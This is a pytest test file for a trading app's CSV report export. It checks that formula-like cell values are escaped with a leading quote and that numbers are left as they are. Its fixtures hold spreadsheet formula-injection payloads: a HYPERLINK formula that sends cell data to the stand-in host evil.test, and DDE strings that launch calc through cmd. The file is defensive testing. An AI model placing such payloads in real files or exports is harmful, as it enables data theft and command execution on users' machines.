"""CSV exports: text that a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from backend.analytics.report import csv_cell
from tests.ingest.helpers import RUN, app_context, batch, fill, push

SYMBOL = '=HYPERLINK("http://evil.test/?d="&A1,"ES")'
ACCOUNT = "@SUM(1+1)*cmd|' /C calc'!A0"


class TestRunReportCsv:
    def test_formula_text_is_escaped_and_numbers_stay_numbers(
        self, client: TestClient, alice_key: dict[str, str], alice: dict[str, str]
    ) -> None:
        events = [
            fill("f1", "2024-03-08T14:30:00Z", "buy", 1, 100, symbol=SYMBOL, account=ACCOUNT),
            fill("f2", "2024-03-08T15:00:00Z", "sell", 1, 95.5, symbol=SYMBOL, account=ACCOUNT),
            fill("p1", "2024-03-08T16:00:00Z", "buy", 1, 10, symbol="ES", account="desk"),
            fill("p2", "2024-03-08T16:30:00Z", "sell", 1, 12, symbol="ES", account="desk"),
        ]
        run_id = push(client, alice_key, batch(events, run=RUN))["run_id"]
        assert app_context(client).ingest.derivations.wait_idle()
        trades = client.get(f"/api/runs/{run_id}/trades", headers=alice).json()["items"]
        hostile = next(t["id"] for t in trades if t["symbol"] == SYMBOL)
        plain = next(t["id"] for t in trades if t["symbol"] == "ES")
        journal = {"notes": "+1+cmd|' /C calc'!A0", "tags": ["-2+3", "ok"], "setup": "\t=1+1"}
        assert (
            client.patch(f"/api/trades/{hostile}", json=journal, headers=alice).status_code == 200
        )
        plain_journal = {"notes": "fine - really", "tags": ["a"], "setup": "ORB"}
        assert (
            client.patch(f"/api/trades/{plain}", json=plain_journal, headers=alice).status_code
            == 200
        )

        response = client.get(f"/api/runs/{run_id}/report?format=csv", headers=alice)
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        rows = {row["id"]: row for row in csv.DictReader(io.StringIO(response.text))}
        row = rows[str(hostile)]
        assert (row["symbol"], row["account"]) == ("'" + SYMBOL, "'" + ACCOUNT)
        assert (row["notes"], row["tags"], row["setup"]) == (
            "'+1+cmd|' /C calc'!A0",
            "'-2+3;ok",
            "'\t=1+1",
        )
        assert (row["direction"], row["gross_pnl"], row["net_pnl"]) == ("long", "-4.5", "-4.5")
        assert (
            rows[str(plain)]["symbol"],
            rows[str(plain)]["notes"],
            rows[str(plain)]["setup"],
        ) == ("ES", "fine - really", "ORB")
        assert rows[str(plain)]["net_pnl"] == "2.0"
        # The JSON report is not for spreadsheets: it keeps the text as sent.
        document = client.get(f"/api/runs/{run_id}/report", headers=alice).json()
        assert {t["symbol"] for t in document["trades"]} == {SYMBOL, "ES"}


class TestCsvCell:
    @pytest.mark.parametrize(
        ("value", "cell"),
        [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
         ("\rx", "'\rx"), ("ES", "ES"), ("a=b", "a=b"), ("", ""), (None, ""),
         (-12.5, -12.5), (-3, -3), (0.0, 0.0), (True, True)],
    )  # fmt: skip
    def test_cells(self, value: object, cell: object) -> None:
        assert csv_cell(value) == cell
